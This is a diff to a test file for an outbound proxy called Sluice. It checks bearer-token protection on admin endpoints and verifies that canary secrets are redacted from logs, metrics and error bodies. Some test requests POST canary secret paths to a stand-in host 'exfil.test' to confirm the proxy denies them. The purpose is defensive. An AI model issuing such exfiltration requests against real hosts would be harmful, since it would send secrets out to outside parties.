@@ -7,6 +7,7 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import t from 'tap';
 import { AGENT_AUTH, basic, codeOf, rawExchange, startSluice, viaProxy, waitFor } from '../helpers/harness.js';
+import { CANARY_PATHS, CANARY_SECRETS } from '../helpers/canary.js';
 import { isolate } from '../helpers/netns.js';
 import { PASSWORD, buildWorld, worldConfig } from '../helpers/world.js';
 
@@ -56,6 +57,27 @@ if (isolate(t, import.meta.url)) {
     t.match(m.body, /process_cpu_user_seconds_total/, 'default process metrics');
     t.match(m.body, /sluice_kill_switch_engaged 0/);
     t.notMatch(m.body, /public\.test|127\.0\.0\.2/, 'no hosts or addresses in metrics');
+  });
+
+  t.test('on loopback (protectReads off by default) reads need no token; health never does', async (t) => {
+    t.equal(h.sluice.state.config().admin.protectReads, false);
+    t.equal((await admin(adminPort, 'GET', '/metrics')).status, 200);
+    t.equal((await admin(adminPort, 'GET', '/v1/kill-switch')).status, 200);
+  });
+
+  t.test('admin.protectReads: /metrics and GET /v1/kill-switch need the bearer token; /healthz and /readyz do not', async (t) => {
+    const p = await startSluice(t, worldConfig(w, { listen: { http: '127.0.0.1:0', socks5: null, admin: '127.0.0.1:0' }, admin: { tokenFile, protectReads: true } }));
+    const port = p.adminPort!;
+    for (const path of ['/metrics', '/v1/kill-switch']) {
+      const none = await admin(port, 'GET', path);
+      t.equal(none.status, 401, `${path} without a token`);
+      t.notMatch(none.body, /sluice_|identity|engaged/, 'and nothing of it in the refusal');
+      t.equal((await admin(port, 'GET', path, { token: 'wrong' })).status, 401, `${path} with a wrong token`);
+      t.equal((await admin(port, 'GET', path, { token: ADMIN_TOKEN })).status, 200, `${path} with the token`);
+    }
+    t.match((await admin(port, 'GET', '/metrics', { token: ADMIN_TOKEN })).body, /sluice_kill_switch_engaged 0/);
+    t.equal((await admin(port, 'GET', '/healthz')).status, 200);
+    t.equal((await admin(port, 'GET', '/readyz')).status, 200);
   });
 
   t.test('mutating endpoints need the bearer token', async (t) => {
@@ -126,14 +148,7 @@ if (isolate(t, import.meta.url)) {
   });
 
   t.test('canary secrets never reach a log line, a metric or an error body', async (t) => {
-    const CANARY = {
-      proxyPass: 'CanaryProxyPass-7f3a9',
-      bearer: 'CanaryBearer-ab12cd34ef56',
-      userinfo: 'CanaryUserInfo-9d8c7b',
-      query: 'CanaryQueryValue-5e4f3a',
-      body: 'CanaryBodySecret-1a2b3c',
-      ghp: 'ghp_CanaryGithubToken0123456789abcdef',
-    };
+    const CANARY = CANARY_SECRETS;
     // Sluice's own answers (denials and failures, which carry Proxy-Status); allowed requests echo the
     // origin's response, which is the origin's business.
     const bodies: string[] = [];
@@ -147,7 +162,11 @@ if (isolate(t, import.meta.url)) {
     await send({ method: 'POST', url: `http://api.test/hook?secret=${CANARY.query}`, body: CANARY.body, headers: { authorization: `token ${CANARY.ghp}` } });
     await send({ url: `http://user:${CANARY.userinfo}@public.test:${w.publicHttp.port}/` });
     await send({ url: `http://${CANARY.userinfo}.test/` }); // hosts are logged by design; see below
-    await send({ url: `${pub}/path/${CANARY.ghp}` });
+    // Secrets in the path itself, allowed (a read) and denied (a write to a host that is no integration).
+    for (const path of CANARY_PATHS) {
+      await send({ url: `${pub}${path}` });
+      await send({ method: 'POST', url: `http://exfil.test${path}`, body: 'x' });
+    }
     bodies.push((await rawExchange(h.port, `GET http://u:${CANARY.userinfo}@x.test/ HTTP/1.1\r\nHost: x\r\nProxy-Authorization: ${basic('agent', CANARY.proxyPass)}\r\n\r\n`)).text);
     const metrics = (await admin(adminPort, 'GET', '/metrics')).body;
     const haystacks = { logs: h.logText(), metrics, bodies: bodies.join('\n') };
@@ -165,5 +184,10 @@ if (isolate(t, import.meta.url)) {
     t.notMatch(h.logText(), new RegExp(PASSWORD), 'configured passwords are never logged');
     const rec = h.decisions().find((d) => typeof d['target.path'] === 'string' && (d['target.path'] as string).startsWith('/?token='));
     t.equal(rec?.['target.path'], '/?token=&q=', 'query strings are logged as keys only');
+    const paths = h.decisions().map((d) => d['target.path']);
+    t.ok(paths.includes('/services/T0CANARY1/B0CANARY2/[redacted]'), 'a webhook path is logged with its secret segment redacted');
+    t.ok(paths.includes('/[redacted]/sendMessage'), 'a bot-token segment is redacted');
+    t.ok(paths.includes('/app;jsessionid=;token=/x'), 'matrix parameters keep their names only');
+    t.ok(paths.includes('/hook?[redacted]'), 'a key-only query that is not a word is redacted');
   });
 }
